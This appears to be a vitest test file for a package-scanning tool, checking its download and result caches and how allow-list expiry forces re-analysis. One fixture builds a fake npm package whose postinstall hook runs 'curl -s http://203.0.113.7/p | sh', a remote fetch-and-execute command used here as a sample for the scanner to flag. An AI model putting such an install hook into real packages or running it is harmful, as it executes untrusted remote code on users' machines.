/**
 * The caches createScanIO wires in, seen from outside: a second scan with the same cache directory must
 * neither download (the bytes are in the download cache under the digest the lockfile states) nor analyse
 * (the inspection is in the result cache), which is what makes the warm scan of bench/scan.mjs cheap.
 */
import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HttpClient, HttpRequest } from '../src/fetch/http.js';
import type { Artifact } from '../src/model/index.js';
import type { Engine } from '../src/pipeline.js';
import { DEFAULT_POLICY } from '../src/policy/schema.js';
import type { RepoFiles } from '../src/repo/files.js';
import { RecordingLogger } from '../src/runtime/logger.js';
import { createScanIO } from '../src/scan-io.js';
import { testEngine } from './support/engine.js';
import { inProcessInspector } from '../src/inspection-pool.js';
import { tarArchive } from './unpack/tar-builder.js';

const tgz = (name: string, code: string): Uint8Array =>
  gzipSync(
    tarArchive([
      { name: 'package/package.json', body: JSON.stringify({ name, version: '1.0.0', main: 'index.js' }) },
      { name: 'package/index.js', body: code },
    ]),
  );

const noFiles: RepoFiles = { list: () => Promise.resolve([]), read: () => Promise.resolve(undefined), changed: () => Promise.resolve([]) };

function artifactFor(name: string, bytes: Uint8Array): Artifact {
  const ref = { ecosystem: 'npm' as const, name, version: '1.0.0' };
  const hex = createHash('sha512').update(bytes).digest('hex');
  return { ref, url: `http://127.0.0.1:9/${name}/-/${name}-1.0.0.tgz`, filename: `${name}-1.0.0.tgz`, type: 'npm-tarball', integrity: [{ algorithm: 'sha512', hex }] };
}

let cacheDir: string;
let engine: Engine;
let analysed: string[];
const served = new Map<string, Uint8Array>();
const requests: HttpRequest[] = [];
const http: HttpClient = {
  request(req) {
    requests.push(req);
    const body = served.get(req.url);
    return Promise.resolve(body ? { status: 200, url: req.url, headers: {}, body } : { status: 404, url: req.url, headers: {}, body: new Uint8Array() });
  },
};

beforeAll(async () => {
  cacheDir = await mkdtemp(join(tmpdir(), 'customs-scan-io-cache-'));
  const real = await testEngine();
  analysed = [];
  // Counts analyser calls without changing what they return.
  engine = {
    ...real,
    analyzers: {
      python: (file, source) => (analysed.push(file), real.analyzers.python(file, source)),
      javascript: (file, source) => (analysed.push(file), real.analyzers.javascript(file, source)),
    },
  };
}, 60_000);

afterAll(() => rm(cacheDir, { recursive: true, force: true }));

const io = (today: string) => createScanIO({ files: noFiles, head: 'HEAD', inspector: inProcessInspector(engine), policy: DEFAULT_POLICY, today, log: new RecordingLogger(), cacheDir, osvUrl: false, http });

describe('createScanIO caches', () => {
  const bytes = tgz('cached-pkg', 'module.exports = (a, b) => a + b;\n');
  const artifact = artifactFor('cached-pkg', bytes);
  served.set(artifact.url, bytes);
  const input = (b: Uint8Array) => ({ bytes: b, filename: artifact.filename, ecosystem: 'npm' as const, name: 'cached-pkg', version: '1.0.0' });

  it('cold: downloads once and analyses the files', async () => {
    const cold = await io('2026-11-30');
    const got = await cold.download(artifact);
    expect(Buffer.from(got).equals(Buffer.from(bytes))).toBe(true);
    expect(requests.map((r) => r.url)).toEqual([artifact.url]);
    const inspection = await cold.inspect(input(got));
    expect(inspection.verdict.decision).toBe('pass');
    expect(inspection.digest).toBe(`sha256:${createHash('sha256').update(bytes).digest('hex')}`);
    expect(analysed.length).toBeGreaterThan(0);
  }, 60_000);

  it('warm (same day, same cache): no request, no analysis, the same inspection', async () => {
    const before = { requests: requests.length, analysed: analysed.length };
    const warm = await io('2026-11-30');
    const got = await warm.download(artifact);
    const inspection = await warm.inspect(input(got));
    expect(requests.length).toBe(before.requests);
    expect(analysed.length).toBe(before.analysed);
    expect(inspection.verdict.decision).toBe('pass');
    expect(inspection.digest).toBe(`sha256:${createHash('sha256').update(bytes).digest('hex')}`);
  });

  it('keys inspections by the bytes: other bytes are analysed, even when handed over without download()', async () => {
    const warm = await io('2026-11-30');
    const other = tgz('cached-pkg', 'module.exports = (a, b) => a * b;\n');
    const before = analysed.length;
    const inspection = await warm.inspect(input(other));
    expect(analysed.length).toBeGreaterThan(before);
    expect(inspection.digest).toBe(`sha256:${createHash('sha256').update(other).digest('hex')}`);
  }, 60_000);

  it('inspections asked for at once are each analysed and cached under their own bytes', async () => {
    const inputs = [1, 2, 3].map((n) => input(tgz(`p${n}`, `module.exports = ${n};\n`)));
    const digests = inputs.map((i) => `sha256:${createHash('sha256').update(i.bytes).digest('hex')}`);
    const first = await Promise.all(inputs.map(async (i) => (await io('2026-11-29')).inspect(i)));
    expect(first.map((r) => r.digest)).toEqual(digests);
    const before = analysed.length;
    const again = await io('2026-11-29');
    const second = await Promise.all([...inputs].reverse().map((i) => again.inspect(i)));
    expect(analysed.length).toBe(before);
    expect(second.map((r) => r.digest)).toEqual([...digests].reverse());
  }, 60_000);

  it('a later day still hits the cache when the policy has no allow entry that expired in between', async () => {
    const before = { requests: requests.length, analysed: analysed.length };
    const later = await io('2027-03-01');
    const inspection = await later.inspect(input(await later.download(artifact)));
    expect(requests.length).toBe(before.requests);
    expect(analysed.length).toBe(before.analysed);
    expect(inspection.verdict.decision).toBe('pass');
  });
});

describe('createScanIO result cache and allow-list expiry', () => {
  it('re-evaluates once an allow entry has expired, and not before', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'customs-scan-io-expiry-'));
    try {
      const bytes = gzipSync(
        tarArchive([
          { name: 'package/package.json', body: JSON.stringify({ name: 'hooked', version: '1.0.0', scripts: { postinstall: 'node install.js' } }) },
          { name: 'package/install.js', body: "require('child_process').exec('curl -s http://203.0.113.7/p | sh');\n" },
        ]),
      );
      const policy = { ...DEFAULT_POLICY, allow: [{ package: 'npm:hooked', reason: 'reviewed by the team', expires: '2026-12-01' }] };
      const make = (today: string) => createScanIO({ files: noFiles, head: 'HEAD', inspector: inProcessInspector(engine), policy, today, log: new RecordingLogger(), cacheDir: dir, osvUrl: false, http });
      const hooked = { bytes, filename: 'hooked-1.0.0.tgz', ecosystem: 'npm' as const, name: 'hooked', version: '1.0.0' };
      const n0 = analysed.length;
      const first = await (await make('2026-11-30')).inspect(hooked);
      expect(first.verdict.decision).toBe('pass');
      expect(first.verdict.reasons.join('\n')).toContain('allowed by policy entry npm:hooked');
      const n1 = analysed.length;
      expect(n1).toBeGreaterThan(n0);
      // The expiry day itself is still covered: same verdict, from the cache.
      const lastDay = await (await make('2026-12-01')).inspect(hooked);
      expect(lastDay.verdict.decision).toBe('pass');
      expect(analysed.length).toBe(n1);
      const after = await (await make('2026-12-02')).inspect(hooked);
      expect(analysed.length).toBeGreaterThan(n1);
      expect(after.verdict.decision).not.toBe('pass');
      expect(after.verdict.reasons.join('\n')).toContain('expired on 2026-12-01');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 60_000);
});
